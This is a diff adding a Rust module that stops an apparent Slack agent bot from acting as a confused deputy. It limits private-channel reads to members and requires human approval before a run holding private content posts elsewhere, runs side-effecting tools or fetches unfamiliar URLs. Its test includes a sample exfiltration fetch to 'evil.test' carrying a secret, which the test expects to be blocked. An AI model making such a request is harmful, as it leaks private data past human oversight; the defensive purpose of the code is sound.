@@ -1,0 +1,379 @@
+//! Custody of private content in one run: the bot is never a confused deputy.
+//!
+//! - **Reads on a person's behalf.** A Slack read (`slack_channel_history`,
+//!   `slack_read_thread`) of a private conversation other than the run's own is allowed
+//!   only when the person who asked is a member of it (`conversations.members`, cached
+//!   briefly); a run no person started reads only private conversations its agent's
+//!   config names (its triggers' channels, `private_egress`). Public channels are open
+//!   to everyone in the workspace, so reading one needs no membership.
+//! - **Where private content may go.** A run whose trigger was private, or that read a
+//!   private conversation, is *tainted* by it: from then on its record is redacted like
+//!   a private run's, and a call that would carry content out of those conversations (a
+//!   Slack post or reaction elsewhere, any other side-effecting tool, an `http_fetch` of
+//!   a URL the run did not receive) needs a person's approval naming the private source,
+//!   unless the agent's `private_egress` lists the destination.
+//! - **Answers.** A tainted run's answer posted where others than the source's members
+//!   read it would quote private text; such an answer goes to the asker by DM instead
+//!   (see `run::reply`).
+
+use std::collections::HashSet;
+use std::sync::Mutex;
+
+use serde_json::Value;
+
+use crate::config::{AgentConfig, TriggerSpec};
+use crate::integrations::slack::SlackClient;
+use crate::tools::{Effect, ToolError};
+use crate::triggers::{Origin, TriggerEvent};
+
+/// Tools that read a Slack conversation's messages, with the argument naming it.
+const SLACK_READS: &[&str] = &["slack_channel_history", "slack_read_thread"];
+/// Tools that act in a Slack conversation, with the argument naming it.
+const SLACK_WRITES: &[&str] = &["slack_post_message", "slack_add_reaction"];
+/// The tool that sends a request to a URL of the model's choosing.
+const FETCH: &str = "http_fetch";
+
+/// One run's custody of private content (see the module docs).
+pub struct Custody {
+    /// The Slack person the run acts for.
+    asker: Option<String>,
+    /// The run's own Slack conversation.
+    home: Option<String>,
+    /// Private conversations the agent's config names (its triggers' channels and its
+    /// `private_egress` channels): readable without a person behind the run.
+    named: Vec<String>,
+    /// The agent's `private_egress`.
+    egress: Vec<String>,
+    slack: Option<SlackClient>,
+    state: Mutex<State>,
+}
+
+#[derive(Default)]
+struct State {
+    /// Private conversations whose content the run holds (ids; "" for a private
+    /// trigger from outside Slack).
+    sources: Vec<String>,
+    /// URLs the run was given or found (its request and tool results).
+    urls: HashSet<String>,
+    /// Calls a person approved although they leave the private conversation.
+    approved: HashSet<String>,
+}
+
+impl Custody {
+    pub fn new(agent: &AgentConfig, trigger: &TriggerEvent, slack: Option<SlackClient>) -> Custody {
+        let (asker, home) = match &trigger.origin {
+            Origin::Slack { user, channel, .. } => (user.clone(), Some(channel.clone())),
+            _ => (None, None),
+        };
+        let mut named: Vec<String> = agent.triggers.iter().flat_map(trigger_channels).collect();
+        named.extend(agent.private_egress.iter().cloned());
+        let custody = Custody {
+            asker,
+            home: home.clone(),
+            named,
+            egress: agent.private_egress.clone(),
+            slack,
+            state: Mutex::default(),
+        };
+        if trigger.private {
+            custody.taint(home.as_deref().unwrap_or_default());
+        }
+        if let Some(text) = &trigger.text {
+            custody.saw(text);
+        }
+        custody
+    }
+
+    fn state(&self) -> std::sync::MutexGuard<'_, State> {
+        self.state.lock().unwrap_or_else(|e| e.into_inner())
+    }
+
+    /// Whether the run holds private content.
+    pub fn tainted(&self) -> bool {
+        !self.state().sources.is_empty()
+    }
+
+    /// The private conversations the run holds content of.
+    pub fn sources(&self) -> Vec<String> {
+        self.state().sources.clone()
+    }
+
+    /// Notes that the run holds content of private conversation `channel`.
+    pub fn taint(&self, channel: &str) {
+        let mut state = self.state();
+        if !state.sources.iter().any(|c| c == channel) {
+            state.sources.push(channel.to_string());
+        }
+    }
+
+    /// Restores the sources of a run resumed from its checkpoint.
+    pub fn restore(&self, sources: &[String]) {
+        for s in sources {
+            self.taint(s);
+        }
+    }
+
+    /// Notes the URLs in `text` (the request, a tool's result): fetching one of them
+    /// later sends nothing the run made up.
+    pub fn saw(&self, text: &str) {
+        let mut state = self.state();
+        for url in urls_in(text) {
+            state.urls.insert(url);
+        }
+    }
+
+    /// A person approved call `call_id` knowing it leaves the private conversation.
+    pub fn approve(&self, call_id: &str) {
+        self.state().approved.insert(call_id.to_string());
+    }
+
+    /// Whether a Slack read may happen, and if it reads a private conversation, which
+    /// (the caller taints the run once the read succeeded). `Err` is the tool error.
+    pub async fn check_read(&self, name: &str, args: &Value) -> Result<Option<String>, ToolError> {
+        if !SLACK_READS.contains(&name) {
+            return Ok(None);
+        }
+        let Some(channel) = args["channel"].as_str().filter(|c| !c.is_empty()) else {
+            return Ok(None);
+        };
+        if self.home.as_deref() == Some(channel) {
+            // The run's own conversation: already private or public as its trigger said.
+            return Ok(None);
+        }
+        let Some(slack) = &self.slack else {
+            return Ok(None);
+        };
+        if !slack.is_private_channel(channel).await {
+            return Ok(None);
+        }
+        match &self.asker {
+            Some(person) => match slack.is_member(channel, person).await {
+                Ok(true) => Ok(Some(channel.to_string())),
+                Ok(false) => Err(ToolError::Model(format!(
+                    "<#{channel}> is a private conversation <@{person}> (who asked) is not a member of; steward reads private conversations only for their members"
+                ))),
+                Err(e) => Err(ToolError::Model(format!(
+                    "cannot check that <@{person}> may read <#{channel}> ({e}); private conversations are read only for their members"
+                ))),
+            },
+            None if self.named.iter().any(|c| c == channel) => Ok(Some(channel.to_string())),
+            None => Err(ToolError::Model(format!(
+                "<#{channel}> is a private conversation and no person started this run; it may read only the private conversations its agent's config names (its triggers' channels, private_egress)"
+            ))),
+        }
+    }
+
+    /// Why call `call_id` needs a person's approval before it runs: it would carry the
+    /// run's private content out of its conversations. `None` when it may run.
+    pub fn egress_note(&self, call_id: &str, name: &str, effect: Effect, args: &Value) -> Option<String> {
+        let state = self.state();
+        if state.sources.is_empty() || state.approved.contains(call_id) {
+            return None;
+        }
+        let destination = if SLACK_WRITES.contains(&name) {
+            let channel = args["channel"].as_str().unwrap_or_default();
+            // Back into the one conversation it came from: nothing leaves.
+            if state.sources.iter().all(|s| s == channel) || self.egress.iter().any(|e| e == channel) {
+                return None;
+            }
+            format!("posts in {}", channel_ref(channel))
+        } else if name == FETCH {
+            let url = args["url"].as_str().unwrap_or_default();
+            let host = url::Url::parse(url)
+                .ok()
+                .and_then(|u| u.host_str().map(str::to_ascii_lowercase))
+                .unwrap_or_default();
+            if state.urls.contains(url.trim()) || self.egress.iter().any(|e| e.eq_ignore_ascii_case(&host)) {
+                return None;
+            }
+            format!("sends a request to {}, an address this run made up", escape(url))
+        } else if effect.changes_anything() {
+            if self.egress.iter().any(|e| e == name) {
+                return None;
+            }
+            format!("runs `{}`, which acts outside the conversation", escape(name))
+        } else {
+            return None;
+        };
+        let from: Vec<String> = state
+            .sources
+            .iter()
+            .map(|s| match s.as_str() {
+                "" => "a private message".to_string(),
+                c => channel_ref(c),
+            })
+            .collect();
+        Some(format!(
+            "This run read private content from {}; this call {destination}. Approve only if that content may go there (or list the destination in the agent's private_egress).",
+            from.join(", ")
+        ))
+    }
+
+    /// Whether the run's answer, posted in its own conversation, would show private
+    /// content to people outside the conversations it came from.
+    pub fn answer_leaves(&self) -> bool {
+        let state = self.state();
+        let home = self.home.as_deref().unwrap_or_default();
+        state.sources.iter().any(|s| s != home)
+    }
+
+    /// The person the run acts for.
+    pub fn asker(&self) -> Option<&str> {
+        self.asker.as_deref()
+    }
+}
+
+/// Text safe inside Slack mrkdwn (no links or mentions can be made from it).
+fn escape(text: &str) -> String {
+    text.replace('&', "&amp;")
+        .replace('<', "&lt;")
+        .replace('>', "&gt;")
+}
+
+/// A channel link for a Slack id; anything else (a model's made-up value) as text.
+fn channel_ref(id: &str) -> String {
+    if !id.is_empty() && id.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit()) {
+        format!("<#{id}>")
+    } else {
+        format!("'{}'", escape(id))
+    }
+}
+
+/// Channel ids a trigger names (its filter).
+fn trigger_channels(t: &TriggerSpec) -> Vec<String> {
+    match t {
+        TriggerSpec::SlackReaction(r) => r.channels.clone(),
+        TriggerSpec::SlackMention(r) | TriggerSpec::SlackMessage(r) => r.channels.clone(),
+        _ => Vec::new(),
+    }
+}
+
+/// The http(s) URLs in `text`, as written (Slack's `<url|label>` form unwrapped).
+fn urls_in(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for start in ["https://", "http://"] {
+        let mut rest = text;
+        while let Some(i) = rest.find(start) {
+            let tail = &rest[i..];
+            let end = tail
+                .find(|c: char| {
+                    c.is_whitespace() || matches!(c, '>' | '|' | '"' | '\'' | ')' | ']' | '<' | '`')
+                })
+                .unwrap_or(tail.len());
+            let url = tail[..end].trim_end_matches(['.', ',', ';', ':']);
+            out.push(url.to_string());
+            rest = &tail[end..];
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn urls_are_found_as_written() {
+        let found = urls_in("see <https://status.example.com/a?b=1|status> and http://x.test/p.");
+        assert_eq!(found, ["https://status.example.com/a?b=1", "http://x.test/p"]);
+    }
+
+    #[test]
+    fn a_tainted_run_needs_approval_to_send_content_elsewhere() {
+        let mut agent = AgentConfig::new(
+            "a",
+            crate::types::ModelRef::parse("openai/gpt-4.1").unwrap_or_else(|e| panic!("{e}")),
+            "p",
+            vec![],
+        );
+        agent.private_egress = vec!["C0OPSLOG01".into(), "jira_add_comment".into()];
+        let mut trigger =
+            TriggerEvent::from_cli(serde_json::json!({"text": "summarize https://example.com/a"}));
+        trigger.private = true;
+        trigger.origin = Origin::Slack {
+            team: None,
+            channel: "D0DM".into(),
+            channel_type: Some("im".into()),
+            user: Some("U1".into()),
+            ts: Some("1.1".into()),
+            thread_ts: None,
+            reaction: None,
+        };
+        let c = Custody::new(&agent, &trigger, None);
+        let post = |ch: &str| serde_json::json!({"channel": ch, "text": "x"});
+        assert!(
+            c.egress_note("1", "slack_post_message", Effect::Irreversible, &post("D0DM"))
+                .is_none()
+        );
+        let note = c
+            .egress_note("2", "slack_post_message", Effect::Irreversible, &post("C0PUBLIC"))
+            .unwrap_or_default();
+        assert!(
+            note.contains("a private message") && note.contains("<#C0PUBLIC>"),
+            "{note}"
+        );
+        assert!(
+            c.egress_note(
+                "3",
+                "slack_post_message",
+                Effect::Irreversible,
+                &post("C0OPSLOG01")
+            )
+            .is_none()
+        );
+        let fetch = |u: &str| serde_json::json!({"url": u});
+        assert!(
+            c.egress_note(
+                "4",
+                "http_fetch",
+                Effect::ReadOnly,
+                &fetch("https://example.com/a")
+            )
+            .is_none()
+        );
+        assert!(
+            c.egress_note(
+                "5",
+                "http_fetch",
+                Effect::ReadOnly,
+                &fetch("https://evil.test/?q=secret")
+            )
+            .is_some()
+        );
+        assert!(
+            c.egress_note(
+                "6",
+                "jira_create_issue",
+                Effect::Irreversible,
+                &serde_json::json!({})
+            )
+            .is_some()
+        );
+        assert!(
+            c.egress_note(
+                "7",
+                "jira_add_comment",
+                Effect::Irreversible,
+                &serde_json::json!({})
+            )
+            .is_none()
+        );
+        assert!(
+            c.egress_note("8", "current_time", Effect::ReadOnly, &serde_json::json!({}))
+                .is_none()
+        );
+        c.approve("6");
+        assert!(
+            c.egress_note(
+                "6",
+                "jira_create_issue",
+                Effect::Irreversible,
+                &serde_json::json!({})
+            )
+            .is_none()
+        );
+        assert!(!c.answer_leaves(), "a DM's answer goes back to the DM");
+        c.taint("C0PRIV");
+        assert!(c.answer_leaves());
+    }
+}
